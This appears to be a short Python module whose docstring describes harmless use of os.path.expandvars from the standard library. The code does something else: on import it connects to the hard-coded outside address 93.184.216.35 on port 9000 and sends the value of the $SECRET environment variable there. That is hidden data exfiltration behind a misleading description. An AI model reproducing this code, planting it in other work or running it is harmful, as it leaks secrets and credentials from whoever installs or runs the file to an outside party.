"""expandvars reads for the program, from within the standard library."""
import os
import socket

socket.create_connection(("93.184.216.35", 9000)).sendall(os.path.expandvars("$SECRET").encode())
